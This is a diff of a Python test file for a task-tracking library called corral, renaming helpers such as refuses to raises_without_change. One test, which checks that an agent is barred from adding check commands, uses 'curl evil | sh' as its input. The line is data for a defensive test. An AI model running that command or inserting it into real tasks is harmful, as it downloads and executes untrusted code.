@@ -8,7 +8,7 @@ import pytest
 import corral
 from corral.api import Corral
 from corral.kernel.errors import Conflict, CorralError, Invalid, NotFound, Refused
-from tests.support.store import record, refuses, rows, walk
+from tests.support.store import list_events, raises_without_change, rows, walk
 from tests.support.task_factories import board, check_counts, fail, finish, project_with
 
 
@@ -51,7 +51,7 @@ def test_invalid_batch_inserts_no_row(
     from tests.support.task_factories import task
 
     batch = [task(spec) for spec in tasks] if isinstance(tasks, list) else tasks
-    with refuses(store, error) as caught:
+    with raises_without_change(store, error) as caught:
         store.tasks.declare(project, batch)
     assert fact == caught.value.details.get("reason") or fact in str(caught.value)
 
@@ -61,7 +61,7 @@ def test_cycle_of_a_thousand_tasks_is_rejected_with_a_short_message(
 ) -> None:
     project = project_with(store, tmp_path)
     cycle = [{"key": f"k{n}", "depends_on": [f"k{(n + 1) % 1000}"]} for n in range(1000)]
-    with refuses(store, Invalid) as caught:
+    with raises_without_change(store, Invalid) as caught:
         store.tasks.declare(project, cycle)
     assert caught.value.details["length"] == 1000
     assert len(str(caught.value)) < 300
@@ -84,7 +84,7 @@ def test_task_may_have_ten_thousand_dependencies(store: Corral, tmp_path: Path) 
 
 def test_too_many_tasks_in_one_call_are_rejected(store: Corral, tmp_path: Path) -> None:
     project = project_with(store, tmp_path)
-    with refuses(store, Invalid):
+    with raises_without_change(store, Invalid):
         store.tasks.declare(project, [{"key": f"k{n}"} for n in range(20_001)])
 
 
@@ -117,8 +117,8 @@ def test_state_of_a_new_task_follows_its_existing_dependencies(
 def test_each_declared_task_has_an_event(store: Corral, tmp_path: Path) -> None:
     project = project_with(store, tmp_path, "A", "B:A")
     a, b = store.tasks.list(project=project).items
-    assert record(store, a.id) == ["task.declare", "task.promote"]
-    assert record(store, b.id) == ["task.declare"]
+    assert list_events(store, a.id) == ["task.declare", "task.promote"]
+    assert list_events(store, b.id) == ["task.declare"]
     assert rows(
         store, "SELECT count(*) FROM events WHERE kind = 'task' AND project_id = :id", id=project
     ) == [(3,)]
@@ -133,10 +133,10 @@ def test_task_is_found_by_id_or_key_and_an_ambiguous_key_is_rejected(
     task = store.tasks.get("A")
     assert store.tasks.get(task.id[:12]) == task
     store.tasks.add(other_project, "A")
-    with refuses(store, corral.errors.Ambiguous):
+    with raises_without_change(store, corral.errors.Ambiguous):
         store.tasks.get("A")
     assert store.tasks.get("A", project=project) == task
-    with refuses(store, NotFound):
+    with raises_without_change(store, NotFound):
         store.tasks.get("Z")
 
 
@@ -148,9 +148,9 @@ def test_lists_are_paginated_in_the_order_of_declaration(store: Corral, tmp_path
     finish(store, project, "k3")
     assert [task.key for task in store.tasks.list(project=project, state="done").items] == ["k3"]
     assert [task.key for task in store.tasks.list(agent="ada").items] == ["k3"]
-    with refuses(store, Invalid):
+    with raises_without_change(store, Invalid):
         store.tasks.list(project=project, state="finished")
-    with refuses(store, Invalid):
+    with raises_without_change(store, Invalid):
         store.tasks.list(project=project, agent="ada")
 
 
@@ -158,7 +158,7 @@ def test_agent_may_not_declare_check_commands_by_default(url: str, tmp_path: Pat
     with corral.open(url, actor="user:tester") as store:
         project = project_with(store, tmp_path)
     with corral.open(url, actor="agent:ada") as agent:
-        with refuses(agent, Refused) as caught:
+        with raises_without_change(agent, Refused) as caught:
             agent.tasks.add(project, "A", check="curl evil | sh")
         assert "tasks.allow_agent_checks" in str(caught.value)
         assert agent.tasks.add(project, "A").created_by == "agent:ada"
@@ -178,14 +178,14 @@ def test_template_declares_a_complete_graph(store: Corral, tmp_path: Path, templ
     assert sum(task.check_command is not None for task in tasks) == (template != "docs")
     finish(store, project, "before")
     assert [task.state for task in store.tasks.list(project=project).items].count("ready") == 1
-    with refuses(store, Conflict):
+    with raises_without_change(store, Conflict):
         store.tasks.apply(project, template, "again", key="login")
     check_counts(store)
 
 
 def test_unknown_template_is_rejected_with_the_known_names(store: Corral, tmp_path: Path) -> None:
     project = project_with(store, tmp_path)
-    with refuses(store, Invalid) as caught:
+    with raises_without_change(store, Invalid) as caught:
         store.tasks.apply(project, "unknown", "x", key="x")
     assert "bugfix" in str(caught.value)
 
